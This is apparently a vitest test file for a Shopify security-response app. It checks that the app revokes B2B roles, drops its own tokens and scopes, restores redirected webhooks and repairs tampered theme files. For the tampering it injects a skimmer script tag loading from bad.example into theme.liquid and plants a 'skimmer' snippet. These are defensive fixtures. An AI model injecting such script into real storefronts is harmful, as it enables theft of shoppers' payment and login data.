import { createHash } from "node:crypto";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { createAdminClient } from "#app/platforms/shopify/admin-client.ts";
import { resolveCapabilities } from "#app/platforms/shopify/capabilities.ts";
import { readStoreFacts } from "#app/platforms/shopify/store-facts.ts";
import { changeThemeFile } from "#app/simulator/changes.ts";
import { gid } from "#app/simulator/gid.ts";
import { grantScopes, setStorefrontPassword } from "#app/simulator/installation.ts";
import type { SubscriptionRow } from "#app/simulator/rows.ts";
import { appOptions, NORTHWIND } from "#app/simulator/testing/sim-client.ts";
import { openTestDatabase, type TestDatabase } from "#app/test/database.ts";
import { makeSimulatedWorld, type SimulatedWorld } from "#app/test/simulated-world.ts";
import { attestStep } from "./attest-step.ts";
import { checkRun } from "./check-run.ts";
import { pollTheme } from "./poll-theme.ts";
import { readStepVersions } from "./read-step-versions.ts";

let opened: TestDatabase;
let world: SimulatedWorld;

beforeAll(async () => {
  opened = await openTestDatabase();
});
afterAll(() => opened.close());
afterEach(() => world.sim.simulator.close());

const start = async (scopes: readonly string[] = [], given: Parameters<typeof makeSimulatedWorld>[3] = {}) => {
  world = await makeSimulatedWorld(opened, scopes, undefined, given);
  return world;
};
const simulation = () => world.sim.simulator.sim;
const check = (runId: string) => checkRun(world.deps, world.merchantId, { runId });
const first = async (runId: string) => (await world.steps(runId))[0]!;
const wordOf = (runId: string, of: "done" | "undone" = "done", index = 0) =>
  attestStep(world.deps, world.ben, { runId, index, of, statement: "Done." });

describe("revoking B2B contacts on a simulated Shopify shop", () => {
  const contact = () => world.records.companyContacts[0]!;
  const rolesOf = () =>
    contact()
      .roles.map(({ roleId, locationId }) => `${roleId} at ${locationId}`)
      .sort();
  const params = () => ({ contacts: [gid("CompanyContact", contact().id)] });

  it("takes every role, and gives the same roles at the same locations again", async () => {
    await start(["write_companies"]);
    const before = rolesOf();
    const runId = await world.carryOut("revoke_b2b_contact", params());

    expect(await world.state(runId)).toBe("in_force");
    expect(rolesOf()).toEqual([]);
    expect(world.records.companyContacts[1]?.roles).not.toEqual([]);

    await world.undo(runId);
    expect(await world.state(runId)).toBe("reverted");
    expect(rolesOf()).toEqual(before);
  });

  it("shows a conflict when somebody gives a role meanwhile, and overwrites nothing", async () => {
    await start(["write_companies"]);
    const runId = await world.carryOut("revoke_b2b_contact", params());
    const given = { id: 1, roleId: 9, locationId: 9 };
    const { id } = contact();
    world.records.companyContacts = world.records.companyContacts.map((row) =>
      row.id === id ? { ...row, roles: [given] } : row,
    );

    await check(runId);
    expect(await first(runId)).toMatchObject({ state: "conflict", problem: { code: "drifted" } });
    await world.undo(runId);
    expect(await first(runId)).toMatchObject({ state: "revert_conflict" });
    expect(rolesOf()).toEqual(["9 at 9"]);
  });

  it("says that a shop without B2B cannot, and asks for no scope that would not help", async () => {
    await start(["write_companies"]);
    world.records.plan = "basic";
    const token = String((await world.sim.exchange(NORTHWIND)).body.access_token);
    const tokens = { of: async () => ({ ok: true as const, value: token }) };
    const facts = await readStoreFacts(
      createAdminClient({ domain: NORTHWIND, fetch: world.sim.fetch, tokens }),
      "public",
    );
    if (!facts.ok) throw facts.error;

    expect(resolveCapabilities(facts.value)["b2b.contacts"]).toMatchObject({ ok: false, missingScope: null });
  });
});

describe("Cordon's own access on a simulated Shopify shop", () => {
  it("ends storefront tokens for good, after two people agreed", async () => {
    await start();
    const token = {
      id: 77,
      appKey: appOptions.apiKey,
      title: "left behind",
      accessToken: "x",
      createdAt: "2026-11-01",
    };
    const theirs = { ...token, id: 78, appKey: "another-app" };
    world.records.storefrontTokens = [token, theirs];
    const runId = await world.carryOut("revoke_own_tokens", {});

    expect(await world.state(runId)).toBe("in_force");
    expect(world.records.storefrontTokens).toEqual([theirs]);
    await expect(world.begin("revoke_own_tokens", {})).rejects.toThrow("No storefront token was made");
  });

  it("gives a scope back and asks a person for it again", async () => {
    await start(["write_validations", "write_products"]);
    const held = () => world.records.installations[appOptions.apiKey]?.scopes ?? [];
    const runId = await world.carryOut("drop_own_scopes", { scopes: ["write_products"] });

    expect(await world.state(runId)).toBe("in_force");
    expect(held()).not.toContain("write_products");
    expect(held()).toContain("write_validations");

    await world.undo(runId);
    expect(await first(runId)).toMatchObject({ state: "revert_parked", assigneeId: world.ada.memberId });
    grantScopes(simulation(), NORTHWIND, simulation().app(), [...held(), "write_products"]);
    await world.revert(runId);
    expect(await world.state(runId)).toBe("reverted");
  });

  it("keeps a scope that a run in force needs, also when that run came after the plan", async () => {
    await start(["write_validations", "write_products"]);
    const freeze = await world.carryOut("freeze_checkout", {});
    await expect(world.begin("drop_own_scopes", { scopes: ["write_validations"] })).rejects.toThrow(
      '"Freeze checkout" needs write_validations while it is in force.',
    );
    const every = await world.begin("drop_own_scopes", { scopes: [] });
    expect((await world.steps(every)).map((step) => step.target)).toEqual(["scope:write_products"]);
    expect((await world.run(every)).notes.join(" ")).toContain("write_validations stays");

    await world.undo(freeze);
    const late = await world.begin("drop_own_scopes", { scopes: ["write_validations"] });
    await world.carryOut("freeze_checkout", {});
    await world.advance(late);
    expect(await first(late)).toMatchObject({ state: "failed", problem: { code: "not_supported" } });
    expect(world.records.installations[appOptions.apiKey]?.scopes).toContain("write_validations");
  });

  it("points webhooks back that somebody redirected, keeps their other settings, and never logs the address", async () => {
    await start();
    const row: SubscriptionRow = {
      ...{ id: 91, appKey: appOptions.apiKey, topic: "ORDERS_CREATE", filter: "id:*", includeFields: ["id"] },
      ...{ uri: "https://user:hunter2@collector.example/in?key=hunter2", metafieldNamespaces: [], name: "x" },
      createdAt: "2026-11-01T00:00:00Z",
    };
    const theirs = { ...row, id: 92, appKey: "another-app" };
    world.records.subscriptions = [row, theirs];
    const runId = await world.carryOut("rotate_webhooks", {});

    expect(await world.state(runId)).toBe("in_force");
    expect(world.records.subscriptions[0]).toEqual({ ...row, uri: `${appOptions.appUrl}/webhooks` });
    expect(world.records.subscriptions[1]).toEqual(theirs);
    expect(JSON.stringify(await world.steps(runId))).toContain("https://collector.example");
    const said = await opened.sql<{ payload: string }>("SELECT payload FROM evidence_payload WHERE merchant_id = $1", [
      world.merchantId,
    ]);
    expect(JSON.stringify([said, await world.steps(runId)])).not.toContain("hunter2");

    await world.undo(runId);
    expect(await world.state(runId)).toBe("reverted");
    expect(world.records.subscriptions[0]).toEqual(row);
  });

  it("says that a webhook is gone which somebody deleted while the run was in force", async () => {
    await start();
    const row: SubscriptionRow = {
      ...{ id: 91, appKey: appOptions.apiKey, topic: "ORDERS_CREATE", filter: null, includeFields: [] },
      ...{ uri: "https://collector.example/in", metafieldNamespaces: [], name: "x", createdAt: "2026-11-01T00:00:00Z" },
    };
    world.records.subscriptions = [row];
    const runId = await world.carryOut("rotate_webhooks", {});
    world.records.subscriptions = [];

    await check(runId);

    expect(await world.state(runId)).toBe("conflict");
    expect(await first(runId)).toMatchObject({
      state: "conflict",
      problem: { code: "drifted", message: "It does not hold any more. This webhook is gone." },
    });
  });
});

describe("guided tasks on a simulated Shopify shop", () => {
  it("sees the storefront's password come and go", async () => {
    await start();
    const runId = await world.carryOut("password_protect_storefront", {});
    expect(await world.state(runId)).toBe("parked");

    setStorefrontPassword(simulation(), NORTHWIND, true);
    await world.advance(runId);
    expect(await world.state(runId)).toBe("in_force");

    setStorefrontPassword(simulation(), NORTHWIND, false);
    await check(runId);
    expect(await first(runId)).toMatchObject({ state: "conflict", problem: { code: "drifted" } });
  });

  it("does not believe a word about the password that the store contradicts", async () => {
    await start();
    const runId = await world.carryOut("password_protect_storefront", {});
    await wordOf(runId);
    await world.advance(runId);
    expect(await world.state(runId)).toBe("attested");

    await check(runId);
    expect(await first(runId)).toMatchObject({ state: "conflict", problem: { code: "attested_not_seen" } });
  });

  it("takes a word for each credential, and has nothing to undo", async () => {
    await start();
    const runId = await world.carryOut("rotate_store_credentials", { credentials: ["Warehouse", "Mail"] });
    expect((await world.steps(runId)).map((step) => step.state)).toEqual(["parked", "parked"]);
    await wordOf(runId, "done", 1);
    await world.advance(runId);
    expect((await world.steps(runId)).map((step) => step.state)).toEqual(["parked", "attested"]);
    expect(await world.state(runId)).toBe("parked");
    await wordOf(runId, "done", 0);
    await world.advance(runId);
    expect(await world.state(runId)).toBe("attested");

    await world.undo(runId);
    expect(await world.state(runId)).toBe("reverted");
  });
});

describe("restoring theme files on a simulated Shopify shop", () => {
  const name = "layout/theme.liquid";
  const file = () => simulation().store(NORTHWIND).files.get(name)!.body;
  const skim = (body: string) => body.replace("</head>", '<script src="https://bad.example/s.js"></script></head>');
  const accept = () => pollTheme(world.deps, world.merchantId, { storeId: world.storeId });
  const tamper = () => changeThemeFile(simulation(), NORTHWIND, name, skim(file()));
  const sum = (body: string) => createHash("md5").update(body).digest("hex");

  it("guides a person, shows the exact difference, and proves it by the MD5 sum", async () => {
    await start();
    await accept();
    const good = file();
    tamper();
    const runId = await world.carryOut("restore_theme_file", { files: [name] });
    expect(await first(runId)).toMatchObject({ state: "parked", intended: { md5: sum(good) } });

    const versions = await readStepVersions(world.deps, world.ada, { runId, index: 0 });
    if (!versions.ok) throw versions.error;
    const changed = (versions.value.lines ?? []).filter((line) => line.kind === "removed" || line.kind === "added");
    expect(changed).toHaveLength(2);
    expect(changed[0]?.text).toContain("bad.example");
    expect(versions.value.wanted).toBe(good);

    changeThemeFile(simulation(), NORTHWIND, name, `${good} `);
    await world.advance(runId);
    expect(await world.state(runId)).toBe("parked");
    changeThemeFile(simulation(), NORTHWIND, name, good);
    await world.advance(runId);
    expect(await world.state(runId)).toBe("in_force");
  });

  it("says that it has no good file where no other theme has it", async () => {
    await start();
    changeThemeFile(simulation(), NORTHWIND, name, `${file()}\n{% comment %}ours{% endcomment %}`);
    await accept();
    tamper();
    const runId = await world.carryOut("restore_theme_file", { files: [name] });

    expect(await first(runId)).toMatchObject({ intended: { from: null } });
    const versions = await readStepVersions(world.deps, world.ada, { runId, index: 0 });
    expect(versions).toMatchObject({ ok: true, value: { lines: null, wanted: null } });
  });

  it("writes the file itself where Shopify gave the exemption, and puts back exactly what was there", async () => {
    await start(["write_themes"], { themeExemption: true });
    await accept();
    const good = file();
    tamper();
    const bad = file();
    changeThemeFile(simulation(), NORTHWIND, "snippets/skimmer.liquid", "{% comment %}steal{% endcomment %}");
    const runId = await world.carryOut("restore_theme_file", { files: [name, "snippets/skimmer.liquid"] });

    expect(await world.run(runId)).toMatchObject({ mode: "direct", state: "in_force" });
    expect(file()).toBe(good);
    expect(simulation().store(NORTHWIND).files.get("snippets/skimmer.liquid")).toBeUndefined();

    await world.undo(runId);
    expect(await world.state(runId)).toBe("reverted");
    expect(file()).toBe(bad);
    expect(simulation().store(NORTHWIND).files.get("snippets/skimmer.liquid")?.body).toContain("steal");
  });

  it("is guided where the scope is granted and the exemption is not", async () => {
    await start(["write_themes"]);
    await accept();
    tamper();
    const runId = await world.carryOut("restore_theme_file", { files: [name] });

    expect(await world.run(runId)).toMatchObject({ mode: "guided", state: "parked" });
  });
});
